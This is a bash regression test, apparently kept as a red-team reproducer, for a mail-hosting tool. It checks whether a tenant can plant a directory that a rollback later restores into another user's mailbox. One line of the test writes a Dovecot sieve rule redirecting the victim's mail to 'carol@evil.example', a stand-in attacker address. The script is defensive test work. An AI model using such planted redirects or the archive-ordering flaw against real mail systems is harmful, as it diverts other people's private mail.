#!/usr/bin/env bash
# A red-team reproducer of fd2725b, kept as a regression test (run by ../homes.sh): it exits 1
# while the weakness it describes is present, 0 when it is fixed.  The weakness:
# A deleted mailbox is archived at every place its mail "may be" (diff.c home_gone/gone_at),
# including its place in the tree of the owner its domain gets now -- a tenant-controlled
# directory.  The extra entries get STAMP-2, STAMP-3..., and the archive's "newest" entry
# (run.c archive_newest: greatest stamp, then greatest N) is the tenant's plant, not the mail.
# A later rollback (or a homes-left "ADDRESS restore" retry) restores carol's planted tree into
# alice's mailbox home, chowned from carol's uid to alice's; alice's real mail stays in the archive.
. "$(dirname "$0")/lib.sh"
sandbox
gen "$tmp/1.yaml" alice info keep
gen "$tmp/2.yaml" carol keep        # example.com to carol, info@ deleted, in one apply
gen "$tmp/3.yaml" alice keep        # example.com back to alice
mr -q apply -f "$tmp/1.yaml" >/dev/null 2>&1 || { echo "setup failed"; exit 2; }
rev1=$(mr log -n 1 | cut -c1-12)
echo 'alice real mail' | as 1001 tee "$(email alice)/example.com/info/msg" >/dev/null
# carol, about to receive example.com, plants a tree at info@'s place in her own tree
as 1005 mkdir -p "$(email carol)/example.com/info"
echo 'redirect "carol@evil.example";' | as 1005 tee "$(email carol)/example.com/info/.dovecot.sieve" >/dev/null
mr -q apply -f "$tmp/2.yaml" --allow-delete >/dev/null 2>&1
mr -q apply -f "$tmp/3.yaml" >/dev/null 2>&1
mr -q rollback "$rev1" >/dev/null 2>&1
home=$(email alice)/example.com/info
ls -la "$home" 2>&1 | sed 's/^/  restored home: /'
if [ -e "$home/.dovecot.sieve" ] || [ ! -e "$home/msg" ]; then
	present "the rollback restored carol's planted tree into alice's home (now uid $(stat -c %u "$home/.dovecot.sieve" 2>/dev/null), mode $(stat -c %a "$home")); alice's mail left in $(grep -l 'alice real mail' "$state"/archive/info@example.com/*/msg)"
fi
fixed "alice's mail came back, carol's plant did not"
